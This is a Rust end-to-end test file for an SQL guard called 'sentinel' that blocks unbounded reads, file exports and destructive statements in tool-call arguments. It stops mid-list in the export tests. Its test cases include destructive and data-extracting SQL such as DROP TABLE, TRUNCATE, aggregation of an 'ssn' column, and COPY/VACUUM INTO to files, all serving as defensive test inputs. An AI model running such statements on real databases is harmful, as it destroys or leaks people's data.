//! End-to-end tests of the SQL guard's rules, driving the real `sentinel` binary in demo mode
//! (no server: JSON-RPC lines on stdin, allowed messages echoed and block errors on stdout).
//!
//! Every case is a row in a table: a name, the message, and the expected verdict (allow, or the
//! rule id that must block it). The cases of one configuration run in ONE process: each gets its
//! own id (alternately a number and a string, to check ids keep their JSON type) and the output
//! lines and audit entries are mapped back by id. A test reports every failing case by name,
//! not just the first.

mod util;

use serde_json::{json, Value};
use std::collections::{HashMap, HashSet};
use std::io::Write;
use std::path::PathBuf;
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{SystemTime, UNIX_EPOCH};

const BLOCKED_CODE: i64 = -32010;
const UNBOUNDED_READ: &str = "sql.unbounded_read";
const EXPORT: &str = "sql.export";
const DESTRUCTIVE: &str = "sql.destructive";
const UNPARSEABLE: &str = "sql.unparseable";

/// The verdict a case expects.
#[derive(Clone, Copy, Debug)]
enum Expect {
    /// Echoed to stdout byte for byte, nothing in the audit log.
    Allow,
    /// Answered with a block error naming this rule, and audited.
    Block(&'static str),
    /// Blocked by one of these rules (where the spec does not say which one applies).
    BlockAny(&'static [&'static str]),
}
use Expect::{Allow, Block, BlockAny};

const UNBOUNDED: Expect = Block(UNBOUNDED_READ);
const EXPORTS: Expect = Block(EXPORT);
const DESTROYS: Expect = Block(DESTRUCTIVE);
const UNPARSED: Expect = Block(UNPARSEABLE);

/// One row of a table.
struct Case {
    name: String,
    method: &'static str,
    params: Option<Value>,
    expect: Expect,
    /// The expected `data.argument` when blocked.
    pointer: &'static str,
}

const TOOL: &str = "run_sql";

/// A `tools/call` with the SQL under the `query` key.
fn sql(name: &str, text: &str, expect: Expect) -> Case {
    args(name, json!({ "query": text }), expect, "/query")
}

/// A `tools/call` with these arguments; `pointer` is where the block must point.
fn args(name: &str, arguments: Value, expect: Expect, pointer: &'static str) -> Case {
    call(
        name,
        "tools/call",
        Some(json!({ "name": TOOL, "arguments": arguments })),
        expect,
        pointer,
    )
}

/// Any request.
fn call(
    name: &str,
    method: &'static str,
    params: Option<Value>,
    expect: Expect,
    pointer: &'static str,
) -> Case {
    Case {
        name: name.to_owned(),
        method,
        params,
        expect,
        pointer,
    }
}

/// What one run of the binary produced.
struct Run {
    status: std::process::ExitStatus,
    stdout: String,
    stderr: String,
    audit: String,
    dir: PathBuf,
}

/// A fresh, empty directory for one run.
fn temp_dir(label: &str) -> PathBuf {
    static SEQ: AtomicUsize = AtomicUsize::new(0);
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_nanos());
    let dir = std::env::temp_dir().join(format!(
        "sentinel-sql-rules-{label}-{}-{nanos}-{}",
        std::process::id(),
        SEQ.fetch_add(1, Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).expect("create temp dir");
    dir
}

/// Runs `sentinel --no-color --audit-log <dir>/audit.log OPTS` in demo mode with `input` on
/// stdin, in a fresh working directory.
fn sentinel(label: &str, opts: &[&str], input: Vec<u8>) -> Run {
    let dir = temp_dir(label);
    let audit_path = dir.join("audit.log");
    let mut child = util::bare(&dir)
        .arg("--no-color")
        .arg("--audit-log")
        .arg(&audit_path)
        .args(opts)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn sentinel");
    let mut stdin = child.stdin.take().expect("stdin");
    let writer = std::thread::spawn(move || {
        // A refused write (the binary exited early) shows up as missing output below.
        let _ = stdin.write_all(&input);
    });
    let out = child.wait_with_output().expect("wait for sentinel");
    writer.join().expect("stdin writer");
    Run {
        status: out.status,
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        audit: std::fs::read_to_string(&audit_path).unwrap_or_default(),
        dir,
    }
}

/// `YYYY-MM-DDTHH:MM:SS[.fraction]Z`.
fn is_rfc3339_utc(s: &str) -> bool {
    let b = s.as_bytes();
    let digits =
        |r: std::ops::Range<usize>| b.get(r).is_some_and(|d| d.iter().all(u8::is_ascii_digit));
    if b.len() < 20 || !s.ends_with('Z') {
        return false;
    }
    let shape = digits(0..4)
        && b[4] == b'-'
        && digits(5..7)
        && b[7] == b'-'
        && digits(8..10)
        && b[10] == b'T'
        && digits(11..13)
        && b[13] == b':'
        && digits(14..16)
        && b[16] == b':'
        && digits(17..19);
    let rest = &s[19..s.len() - 1];
    shape
        && (rest.is_empty()
            || (rest.len() > 1
                && rest.starts_with('.')
                && rest[1..].bytes().all(|c| c.is_ascii_digit())))
}

/// A short description of a case's input for failure messages.
fn shown(case: &Case) -> String {
    match &case.params {
        Some(p) if case.method == "tools/call" => match p.get("arguments") {
            Some(a) => format!("arguments {a}"),
            None => format!("params {p}"),
        },
        Some(p) => format!("{} params {p}", case.method),
        None => format!("{} without params", case.method),
    }
}

/// Runs every case through one process with `opts` and checks stdout and the audit log.
/// Panics listing every failing case.
fn check(label: &str, opts: &[&str], max_rows: u64, cases: &[Case]) {
    let mut names = HashSet::new();
    for c in cases {
        assert!(
            names.insert(c.name.as_str()),
            "duplicate case name {}",
            c.name
        );
    }

    let ids: Vec<Value> = (0..cases.len())
        .map(|i| {
            if i % 2 == 0 {
                json!(i)
            } else {
                json!(format!("case-{i}"))
            }
        })
        .collect();
    let lines: Vec<String> = cases
        .iter()
        .zip(&ids)
        .map(|(c, id)| {
            let mut msg = json!({ "jsonrpc": "2.0", "id": id, "method": c.method });
            if let Some(p) = &c.params {
                msg["params"] = p.clone();
            }
            serde_json::to_string(&msg).expect("serialize")
        })
        .collect();
    let mut input = lines.join("\n").into_bytes();
    input.push(b'\n');

    let run = sentinel(label, opts, input);
    let mut failures = Vec::new();
    if !run.status.success() {
        failures.push(format!(
            "exit status {} (stderr: {})",
            run.status, run.stderr
        ));
    }

    // Output lines by id.
    let mut out: HashMap<String, Vec<&str>> = HashMap::new();
    for line in run.stdout.lines() {
        match serde_json::from_str::<Value>(line) {
            Ok(v) => out.entry(v["id"].to_string()).or_default().push(line),
            Err(e) => failures.push(format!("stdout line is not JSON ({e}): {line}")),
        }
    }
    // Audit entries by message_id.
    let mut audit: HashMap<String, Vec<Value>> = HashMap::new();
    for line in run.audit.lines() {
        match serde_json::from_str::<Value>(line) {
            Ok(v) => audit
                .entry(v["message_id"].to_string())
                .or_default()
                .push(v),
            Err(e) => failures.push(format!("audit line is not JSON ({e}): {line}")),
        }
    }

    for ((case, id), line) in cases.iter().zip(&ids).zip(&lines) {
        let key = id.to_string();
        let name = &case.name;
        let what = shown(case);
        let outs = out.get(&key).map_or(&[][..], Vec::as_slice);
        let entries = audit.get(&key).map_or(&[][..], Vec::as_slice);
        let [got] = outs else {
            failures.push(format!(
                "[{name}] {what}: expected exactly one output line for id {key}, got {outs:?}"
            ));
            continue;
        };
        let rules: &[&str] = match &case.expect {
            Allow => {
                if got != line {
                    failures.push(format!("[{name}] {what}: expected allow (echo), got {got}"));
                }
                if !entries.is_empty() {
                    failures.push(format!("[{name}] {what}: allowed but audited: {entries:?}"));
                }
                continue;
            }
            Block(rule) => std::slice::from_ref(rule),
            BlockAny(rules) => rules,
        };
        let expected = rules.join(" or ");
        let v: Value = serde_json::from_str(got).expect("parsed above");
        let Some(err) = v.get("error") else {
            failures.push(format!(
                "[{name}] {what}: expected block ({expected}), got allow: {got}"
            ));
            continue;
        };
        let rule = err["data"]["rule"].as_str().unwrap_or("<none>");
        if !rules.contains(&rule) {
            failures.push(format!(
                "[{name}] {what}: expected {expected}, blocked by {rule}: {}",
                err["message"]
            ));
            continue;
        }
        let mut problems = Vec::new();
        if v["jsonrpc"] != "2.0" || v.get("result").is_some() {
            problems.push("not a JSON-RPC 2.0 error response".to_owned());
        }
        if err["code"] != BLOCKED_CODE {
            problems.push(format!("code {} instead of {BLOCKED_CODE}", err["code"]));
        }
        let prefix = format!("Blocked by Sentinel ({rule}): ");
        if !err["message"]
            .as_str()
            .is_some_and(|m| m.starts_with(&prefix) && m.len() > prefix.len())
        {
            problems.push(format!(
                "message {} does not start with {prefix:?}",
                err["message"]
            ));
        }
        let hint = err["data"]["hint"].as_str().unwrap_or("");
        if hint.trim().is_empty() {
            problems.push("empty or missing data.hint".to_owned());
        }
        if rule == UNBOUNDED_READ && !hint.contains(&format!("LIMIT {max_rows}")) {
            problems.push(format!("hint {hint:?} does not mention LIMIT {max_rows}"));
        }
        if err["data"]["argument"] != case.pointer {
            problems.push(format!(
                "data.argument {} instead of {:?}",
                err["data"]["argument"], case.pointer
            ));
        }
        // The audit entry.
        match entries {
            [e] => {
                let original: Value = serde_json::from_str(line).expect("own input");
                if !e["timestamp"].as_str().is_some_and(is_rfc3339_utc) {
                    problems.push(format!(
                        "audit timestamp {} is not RFC 3339 UTC",
                        e["timestamp"]
                    ));
                }
                if e["message_id"] != *id {
                    problems.push(format!(
                        "audit message_id {} instead of {id}",
                        e["message_id"]
                    ));
                }
                if e["method"] != case.method {
                    problems.push(format!("audit method {}", e["method"]));
                }
                if e["reason"].as_str().is_none_or(str::is_empty) {
                    problems.push(format!("audit reason {}", e["reason"]));
                }
                if e["rule"] != rule {
                    problems.push(format!("audit rule {} instead of {rule}", e["rule"]));
                }
                let tool = case
                    .params
                    .as_ref()
                    .map_or(Value::Null, |p| p["name"].clone());
                if e["tool"] != tool {
                    problems.push(format!("audit tool {} instead of {tool}", e["tool"]));
                }
                if e["action"] != "blocked" {
                    problems.push(format!("audit action {}", e["action"]));
                }
                if e["details"] != original {
                    problems.push(format!(
                        "audit details {} differ from the message",
                        e["details"]
                    ));
                }
            }
            _ => problems.push(format!("expected one audit entry, got {}", entries.len())),
        }
        if !problems.is_empty() {
            failures.push(format!(
                "[{name}] {what}: blocked by {rule} as expected, but: {}",
                problems.join("; ")
            ));
        }
    }

    let blocked = cases.iter().filter(|c| !matches!(c.expect, Allow)).count();
    let audited = run.audit.lines().count();
    if audited != blocked && failures.is_empty() {
        failures.push(format!("{audited} audit lines for {blocked} blocked cases"));
    }

    if failures.is_empty() {
        let _ = std::fs::remove_dir_all(&run.dir);
    } else {
        panic!(
            "{} of {} cases failed with `sentinel {}` (run dir {}):\n  {}",
            failures.len(),
            cases.len(),
            opts.join(" "),
            run.dir.display(),
            failures.join("\n  ")
        );
    }
}

/// Where SQL is looked for, and when a string counts as SQL at all.
#[test]
fn finds_sql_in_any_string_of_the_arguments() {
    let statement_keywords = [
        "SELECT", "WITH", "INSERT", "UPDATE", "DELETE", "MERGE", "REPLACE", "DROP", "TRUNCATE",
        "ALTER", "COPY", "ATTACH", "GRANT",
    ];
    let mut cases = vec![
        // Any key, any depth.
        args(
            "unrelated key",
            json!({"foo": "SELECT * FROM users"}),
            UNBOUNDED,
            "/foo",
        ),
        args(
            "nested objects",
            json!({"options": {"inner": {"sql": "SELECT * FROM users"}}, "x": "hello"}),
            UNBOUNDED,
            "/options/inner/sql",
        ),
        args(
            "array of objects",
            json!({"batch": [{"sql": "SELECT 1"}, {"sql": "SELECT * FROM users"}]}),
            UNBOUNDED,
            "/batch/1/sql",
        ),
        args(
            "array of strings",
            json!({"statements": ["SELECT 1", "INSERT INTO t VALUES (1)", "DROP TABLE users"]}),
            DESTROYS,
            "/statements/2",
        ),
        args(
            "nested arrays",
            json!({"a": [[1, true, null, ["TRUNCATE users"]]]}),
            DESTROYS,
            "/a/0/3/0",
        ),
        args(
            "pointer escapes slash",
            json!({"a/b": "DROP TABLE users"}),
            DESTROYS,
            "/a~1b",
        ),
        args(
            "pointer escapes tilde",
            json!({"m~n": "DROP TABLE users"}),
            DESTROYS,
            "/m~0n",
        ),
        args(
            "harmless strings around harmless sql",
            json!({"title": "report", "sql": "SELECT id FROM users LIMIT 10", "n": 3}),
            Allow,
            "",
        ),
        args(
            "every string of a batch harmless",
            json!({"batch": [{"sql": "SELECT 1"}, {"sql": "SELECT * FROM t LIMIT 2"}]}),
            Allow,
            "",
        ),
        // Natural language passes.
        sql("prose under query", "best pizza in town", Allow),
        args(
            "prose with select under text",
            json!({"text": "select the best option for me"}),
            Allow,
            "",
        ),
        sql(
            "prose mentioning sql later",
            "how do I delete all rows from a table?",
            Allow,
        ),
        sql(
            "prose show",
            "show me the best pizza near the station",
            Allow,
        ),
        sql(
            "prose explain",
            "explain quantum physics like I am five",
            Allow,
        ),
        sql("empty query", "", Allow),
        sql("whitespace query", "   \n\t ", Allow),
        sql("only a comment", "-- SELECT * FROM users", Allow),
        sql("only a block comment", "/* DROP TABLE users */", Allow),
        // Unparseable statements under SQL-named keys fail closed.
        sql(
            "prose with select under query",
            "select the best option for me",
            UNPARSED,
        ),
        args(
            "unparseable under sql",
            json!({"sql": "SELECT * FROM users WHERE"}),
            UNPARSED,
            "/sql",
        ),
        args(
            "unparseable under statement",
            json!({"statement": "SELECT * FROM users WHERE"}),
            UNPARSED,
            "/statement",
        ),
        args(
            "unparseable under stmt",
            json!({"stmt": "SELECT * FROM users WHERE"}),
            UNPARSED,
            "/stmt",
        ),
        args(
            "unparseable under SQL uppercase key",
            json!({"SQL": "SELECT * FROM users WHERE"}),
            UNPARSED,
            "/SQL",
        ),
        args(
            "unparseable under Query mixed-case key",
            json!({"Query": "DELETE FROM users WHERE"}),
            UNPARSED,
            "/Query",
        ),
        args(
            "unparseable under nested sql key",
            json!({"jobs": [{"stmt": "UPDATE SET SET"}]}),
            UNPARSED,
            "/jobs/0/stmt",
        ),
        sql(
            "unparseable after comments and parens",
            "  /* note */ -- line\n ((select )))",
            UNPARSED,
        ),
        sql(
            "unparseable lowercase",
            "select * from users where",
            UNPARSED,
        ),
        // ... but not under other keys.
        args(
            "unparseable under text",
            json!({"text": "SELECT * FROM users WHERE"}),
            Allow,
            "",
        ),
        args(
            "unparseable under sql_text key",
            json!({"sql_text": "DELETE FROM users WHERE"}),
            Allow,
            "",
        ),
        sql(
            "prose update under query",
            "update me on the news",
            UNPARSED,
        ),
        sql("prose insert under query", "Insert a coin", UNPARSED),
        // Natural language starting with a statement keyword passes under other keys.
        args(
            "prose sentences under text",
            json!({"text": [
                "update me on the news",
                "Replace the tire",
                "Copy that",
                "Grant access to Bob",
                "Alter the plan",
                "Merge these two docs",
                "Insert a coin",
                "Attach the file",
                "Truncate the text",
                "Drop it",
                "With love from Paris",
                "Select a restaurant near me",
            ]}),
            Allow,
            "",
        ),
        // A string that parses as SQL is analysed, whatever it starts with (SQLite and
        // PostgreSQL run `;SELECT ...` as the SELECT).
        sql(
            "leading semicolon select",
            ";SELECT * FROM users",
            UNBOUNDED,
        ),
        sql("leading semicolons drop", " ;; DROP TABLE users", DESTROYS),
        args(
            "leading semicolon under text",
            json!({"text": "/* x */ ;DELETE FROM users"}),
            DESTROYS,
            "/text",
        ),
        sql(
            "leading semicolon bounded",
            ";SELECT * FROM users LIMIT 5",
            Allow,
        ),
        sql(
            "case statement with unbounded select",
            "CASE WHEN 1=1 THEN SELECT * FROM users; END CASE",
            UNBOUNDED,
        ),
        sql(
            "if statement with drop",
            "IF 1=1 THEN DROP TABLE users; END IF",
            DESTROYS,
        ),
        sql(
            "case statement with drop",
            "CASE WHEN 1=1 THEN DROP TABLE users; END CASE",
            DESTROYS,
        ),
        // LIMIT in comments or literals does not count.
        sql(
            "limit in line comment",
            "SELECT * FROM t -- LIMIT 5",
            UNBOUNDED,
        ),
        sql(
            "limit in block comment",
            "SELECT * FROM t /* LIMIT 5 */",
            UNBOUNDED,
        ),
        sql(
            "limit in string literal",
            "SELECT * FROM t WHERE a = 'LIMIT 5'",
            UNBOUNDED,
        ),
        sql(
            "limit in quoted identifier",
            "SELECT \"LIMIT 5\" FROM t",
            UNBOUNDED,
        ),
        sql(
            "sql after leading comment",
            "-- fetch users\nSELECT * FROM users",
            UNBOUNDED,
        ),
        sql(
            "sql after leading parens",
            "((SELECT * FROM users))",
            UNBOUNDED,
        ),
    ];
    for kw in statement_keywords {
        cases.push(sql(
            &format!("unparseable {kw} under query"),
            &format!("{kw} ))) (((garbage"),
            UNPARSED,
        ));
        cases.push(args(
            &format!("unparseable {kw} under note"),
            json!({ "note": format!("{kw} ))) (((garbage") }),
            Allow,
            "",
        ));
    }
    check("detection", &[], 1000, &cases);
}

/// Rule 1 with the default settings (generic dialect, --max-rows 1000).
#[test]
fn unbounded_reads_are_blocked() {
    let cases = [
        sql("plain select", "SELECT * FROM users", UNBOUNDED),
        sql(
            "select with where",
            "SELECT * FROM users WHERE id > 5",
            UNBOUNDED,
        ),
        sql(
            "select distinct",
            "SELECT DISTINCT name FROM users",
            UNBOUNDED,
        ),
        sql(
            "order by only",
            "SELECT * FROM users ORDER BY id",
            UNBOUNDED,
        ),
        sql("limit 10", "SELECT * FROM users LIMIT 10", Allow),
        sql("limit lowercase", "select * from users limit 10", Allow),
        sql(
            "limit trailing semicolon",
            "SELECT * FROM users LIMIT 10;",
            Allow,
        ),
        sql("limit 0", "SELECT * FROM users LIMIT 0", Allow),
        sql("limit at max", "SELECT * FROM users LIMIT 1000", Allow),
        sql(
            "limit above max",
            "SELECT * FROM users LIMIT 1001",
            UNBOUNDED,
        ),
        sql(
            "limit huge",
            "SELECT * FROM users LIMIT 99999999999999999999999",
            UNBOUNDED,
        ),
        sql("limit all", "SELECT * FROM users LIMIT ALL", UNBOUNDED),
        sql("limit -1", "SELECT * FROM users LIMIT -1", UNBOUNDED),
        sql("limit ?", "SELECT * FROM users LIMIT ?", UNBOUNDED),
        sql("limit $1", "SELECT * FROM users LIMIT $1", UNBOUNDED),
        sql("limit :n", "SELECT * FROM users LIMIT :n", UNBOUNDED),
        sql("limit 10+1", "SELECT * FROM users LIMIT 10+1", UNBOUNDED),
        sql("limit 1.5", "SELECT * FROM users LIMIT 1.5", UNBOUNDED),
        sql(
            "limit subquery",
            "SELECT * FROM users LIMIT (SELECT 5)",
            UNBOUNDED,
        ),
        sql(
            "limit with offset",
            "SELECT * FROM users LIMIT 10 OFFSET 5000",
            Allow,
        ),
        sql("offset alone", "SELECT * FROM users OFFSET 10", UNBOUNDED),
        sql(
            "offset rows alone",
            "SELECT * FROM users OFFSET 10 ROWS",
            UNBOUNDED,
        ),
        sql(
            "limit offset,count small count",
            "SELECT * FROM users LIMIT 5000, 10",
            Allow,
        ),
        sql(
            "limit offset,count large count",
            "SELECT * FROM users LIMIT 10, 5000",
            UNBOUNDED,
        ),
        sql(
            "fetch first",
            "SELECT * FROM users FETCH FIRST 10 ROWS ONLY",
            Allow,
        ),
        sql(
            "fetch next",
            "SELECT * FROM users FETCH NEXT 10 ROWS ONLY",
            Allow,
        ),
        sql(
            "offset fetch",
            "SELECT * FROM users ORDER BY id OFFSET 5 ROWS FETCH NEXT 10 ROWS ONLY",
            Allow,
        ),
        sql(
            "fetch first above max",
            "SELECT * FROM users FETCH FIRST 5000 ROWS ONLY",
            UNBOUNDED,
        ),
        sql(
            "fetch first row only",
            "SELECT * FROM users FETCH FIRST ROW ONLY",
            Allow,
        ),
        sql(
            "fetch percent",
            "SELECT * FROM users FETCH FIRST 10 PERCENT ROWS ONLY",
            UNBOUNDED,
        ),
        sql(
            "fetch with ties",
            "SELECT * FROM users FETCH FIRST 10 ROWS WITH TIES",
            UNBOUNDED,
        ),
        sql(
            "fetch first placeholder",
            "SELECT * FROM users FETCH FIRST ? ROWS ONLY",
            UNBOUNDED,
        ),
        sql(
            "join with limit",
            "SELECT * FROM a JOIN b ON a.id = b.id ORDER BY a.id LIMIT 10",
            Allow,
        ),
        sql(
            "join without limit",
            "SELECT * FROM a JOIN b ON a.id = b.id",
            UNBOUNDED,
        ),
        // No FROM.
        sql("select 1", "SELECT 1", Allow),
        sql("select now()", "SELECT now()", Allow),
        sql("select expression", "SELECT 1 + 1 AS two, 'x' AS s", Allow),
        // Aggregate-only projections.
        sql("count star", "SELECT count(*) FROM users", Allow),
        sql(
            "count uppercase",
            "SELECT COUNT(*) FROM users WHERE age > 3",
            Allow,
        ),
        sql(
            "several aggregates",
            "SELECT count(*), min(age), max(age), sum(age), avg(age) FROM users",
            Allow,
        ),
        sql(
            "aggregate arithmetic",
            "SELECT count(*) + 1 FROM users",
            Allow,
        ),
        sql(
            "aggregate in function",
            "SELECT round(avg(age), 2) FROM users",
            Allow,
        ),
        sql("aggregate alias", "SELECT count(*) AS n FROM users", Allow),
        sql(
            "aggregate with group by",
            "SELECT count(*) FROM users GROUP BY city",
            UNBOUNDED,
        ),
        sql(
            "column and aggregate with group by",
            "SELECT city, count(*) FROM users GROUP BY city",
            UNBOUNDED,
        ),
        sql(
            "group by with limit",
            "SELECT city, count(*) FROM users GROUP BY city LIMIT 10",
            Allow,
        ),
        sql(
            "column and aggregate",
            "SELECT name, count(*) FROM users",
            UNBOUNDED,
        ),
        sql(
            "window beside aggregate",
            "SELECT max(x) OVER (), max(x) FROM users",
            UNBOUNDED,
        ),
        sql(
            "count distinct",
            "SELECT count(DISTINCT city) FROM users",
            Allow,
        ),
        sql(
            "count with having",
            "SELECT count(*) FROM users HAVING count(*) > 1",
            Allow,
        ),
        sql("constant from table", "SELECT 1 FROM users", UNBOUNDED),
        sql(
            "window count",
            "SELECT count(*) OVER () FROM users",
            UNBOUNDED,
        ),
        sql(
            "window sum",
            "SELECT sum(age) OVER (PARTITION BY city) FROM users",
            UNBOUNDED,
        ),
        sql(
            "window with limit",
            "SELECT count(*) OVER () FROM users LIMIT 10",
            Allow,
        ),
        // Row-concatenating aggregates.
        sql(
            "mysql json_arrayagg",
            "SELECT json_arrayagg(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "spark collect_list",
            "SELECT collect_list(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "ARRAY of a subquery without FROM",
            "SELECT ARRAY(SELECT ssn FROM users)",
            UNBOUNDED,
        ),
        sql(
            "group_concat with limit",
            "SELECT group_concat(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "group_concat",
            "SELECT group_concat(ssn) FROM users",
            UNBOUNDED,
        ),
        sql(
            "GROUP_CONCAT uppercase",
            "SELECT GROUP_CONCAT(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "string_agg",
            "SELECT string_agg(ssn, ',') FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "array_agg",
            "SELECT array_agg(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "json_agg",
            "SELECT json_agg(u) FROM users u LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "jsonb_agg",
            "SELECT jsonb_agg(u) FROM users u LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "json_group_array",
            "SELECT json_group_array(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "json_group_object",
            "SELECT json_group_object(id, ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "json_object_agg",
            "SELECT json_object_agg(id, ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "listagg",
            "SELECT listagg(ssn, ',') FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql("xmlagg", "SELECT xmlagg(ssn) FROM users LIMIT 1", UNBOUNDED),
        sql(
            "row concat beside a count",
            "SELECT count(*), group_concat(ssn) FROM users",
            UNBOUNDED,
        ),
        sql(
            "row concat per group with limit",
            "SELECT city, group_concat(ssn) FROM users GROUP BY city LIMIT 5",
            UNBOUNDED,
        ),
        sql(
            "row concat in scalar subquery",
            "SELECT (SELECT group_concat(ssn) FROM users)",
            UNBOUNDED,
        ),
        sql(
            "row concat in cte output",
            "WITH c AS (SELECT group_concat(ssn) AS s FROM users) SELECT s FROM c LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "row concat in derived table output",
            "SELECT s FROM (SELECT group_concat(ssn) AS s FROM users) x LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "row concat subquery beside columns",
            "SELECT *, (SELECT group_concat(ssn) FROM users) FROM t LIMIT 1",
            UNBOUNDED,
        ),
        sql(
            "row concat in scalar subquery with limit",
            "SELECT (SELECT group_concat(ssn) FROM users) AS x LIMIT 1",
            UNBOUNDED,
        ),
        // Set operations.
        sql(
            "union unbounded",
            "SELECT a FROM t UNION SELECT b FROM u",
            UNBOUNDED,
        ),
        sql(
            "union with outer limit",
            "SELECT a FROM t UNION SELECT b FROM u LIMIT 5",
            Allow,
        ),
        sql(
            "union all with outer limit",
            "SELECT a FROM t UNION ALL SELECT b FROM u LIMIT 5",
            Allow,
        ),
        sql(
            "union of bounded branches",
            "(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u LIMIT 5)",
            Allow,
        ),
        sql(
            "union all of bounded branches",
            "(SELECT a FROM t LIMIT 5) UNION ALL (SELECT b FROM u LIMIT 5)",
            Allow,
        ),
        sql(
            "union second branch unbounded",
            "(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u)",
            UNBOUNDED,
        ),
        sql(
            "union first branch unbounded",
            "(SELECT a FROM t) UNION (SELECT b FROM u LIMIT 5)",
            UNBOUNDED,
        ),
        sql(
            "union of three, last unbounded",
            "(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u LIMIT 5) UNION SELECT c FROM v",
            UNBOUNDED,
        ),
        sql(
            "union branch limit above max",
            "(SELECT a FROM t LIMIT 5) UNION (SELECT b FROM u LIMIT 5000)",
            UNBOUNDED,
        ),
        sql(
            "unparenthesised limit before union",
            "SELECT a FROM t LIMIT 5 UNION SELECT b FROM u",
            BlockAny(&[UNBOUNDED_READ, UNPARSEABLE]),
        ),
        sql(
            "intersect of bounded branches",
            "(SELECT a FROM t LIMIT 5) INTERSECT (SELECT b FROM u LIMIT 5)",
            Allow,
        ),
        sql(
            "intersect unbounded",
            "SELECT a FROM t INTERSECT SELECT b FROM u",
            UNBOUNDED,
        ),
        sql(
            "except with outer limit",
            "SELECT a FROM t EXCEPT SELECT b FROM u LIMIT 5",
            Allow,
        ),
        sql(
            "except unbounded",
            "SELECT a FROM t EXCEPT SELECT b FROM u",
            UNBOUNDED,
        ),
        sql("union without from", "SELECT 1 UNION SELECT 2", Allow),
        sql(
            "union of counts",
            "SELECT count(*) FROM t UNION ALL SELECT count(*) FROM u",
            Allow,
        ),
        // Limits inside subqueries and CTEs do not bound the outer query.
        sql(
            "limit in derived table",
            "SELECT * FROM (SELECT * FROM t LIMIT 5) s",
            UNBOUNDED,
        ),
        sql(
            "limit in cte",
            "WITH c AS (SELECT * FROM t LIMIT 5) SELECT * FROM c",
            UNBOUNDED,
        ),
        sql(
            "limit in IN subquery",
            "SELECT * FROM t WHERE id IN (SELECT id FROM u LIMIT 5)",
            UNBOUNDED,
        ),
        sql(
            "cte with outer limit",
            "WITH c AS (SELECT * FROM t) SELECT * FROM c LIMIT 5",
            Allow,
        ),
        sql(
            "derived table with outer limit",
            "SELECT * FROM (SELECT * FROM t) s LIMIT 5",
            Allow,
        ),
        sql(
            "count over cte",
            "WITH c AS (SELECT * FROM t) SELECT count(*) FROM c",
            Allow,
        ),
        sql(
            "parenthesised query with limit",
            "(SELECT * FROM t LIMIT 5)",
            Allow,
        ),
        sql(
            "limit after parenthesised query",
            "(SELECT * FROM t) LIMIT 5",
            Allow,
        ),
        // Every statement of a multi-statement string.
        sql(
            "second statement unbounded",
            "SELECT 1; SELECT * FROM users",
            UNBOUNDED,
        ),
        sql(
            "first statement unbounded",
            "SELECT * FROM users; SELECT 1",
            UNBOUNDED,
        ),
        sql(
            "insert then unbounded read",
            "INSERT INTO t VALUES (1); SELECT * FROM t",
            UNBOUNDED,
        ),
        sql(
            "bounded read then drop",
            "SELECT * FROM users LIMIT 5; DROP TABLE users",
            DESTROYS,
        ),
        sql(
            "two bounded statements",
            "SELECT 1; SELECT * FROM t LIMIT 3;",
            Allow,
        ),
        // Not reads.
        sql("insert select", "INSERT INTO t2 SELECT * FROM t", Allow),
        sql(
            "create table as select",
            "CREATE TABLE t2 AS SELECT * FROM t",
            Allow,
        ),
    ];
    check("reads", &[], 1000, &cases);
}

/// `--max-rows` moves the bound and the hint follows it.
#[test]
fn max_rows_option_sets_the_bound() {
    let cases = [
        sql("limit 10 under 50", "SELECT * FROM users LIMIT 10", Allow),
        sql("limit at 50", "SELECT * FROM users LIMIT 50", Allow),
        sql("limit 51", "SELECT * FROM users LIMIT 51", UNBOUNDED),
        sql("limit 1000", "SELECT * FROM users LIMIT 1000", UNBOUNDED),
        sql("no limit", "SELECT * FROM users", UNBOUNDED),
        sql(
            "fetch first 51",
            "SELECT * FROM users FETCH FIRST 51 ROWS ONLY",
            UNBOUNDED,
        ),
        sql(
            "fetch first 50",
            "SELECT * FROM users FETCH FIRST 50 ROWS ONLY",
            Allow,
        ),
        sql(
            "limit offset,count 51",
            "SELECT * FROM users LIMIT 1, 51",
            UNBOUNDED,
        ),
        sql(
            "limit offset,count 50",
            "SELECT * FROM users LIMIT 100, 50",
            Allow,
        ),
        sql(
            "row concat hint",
            "SELECT group_concat(ssn) FROM users LIMIT 1",
            UNBOUNDED,
        ),
        sql("count still fine", "SELECT count(*) FROM users", Allow),
    ];
    check("max-rows-50", &["--max-rows", "50"], 50, &cases);

    let cases = [
        sql("limit 0 under 0", "SELECT * FROM users LIMIT 0", Allow),
        sql("limit 1 over 0", "SELECT * FROM users LIMIT 1", UNBOUNDED),
        sql("select 1 under 0", "SELECT 1", Allow),
        sql("count under 0", "SELECT count(*) FROM users", Allow),
    ];
    check("max-rows-0", &["--max-rows", "0"], 0, &cases);
}

/// Rule 2.
#[test]
fn exports_are_blocked() {
    let generic = [
        sql("copy table to file", "COPY users TO '/tmp/x'", EXPORTS),
        sql(
            "sqlite vacuum into a file",
            "VACUUM INTO '/tmp/copy.db'",
            EXPORTS,
        ),
        sql(
            "mysql executable comment hiding a drop",
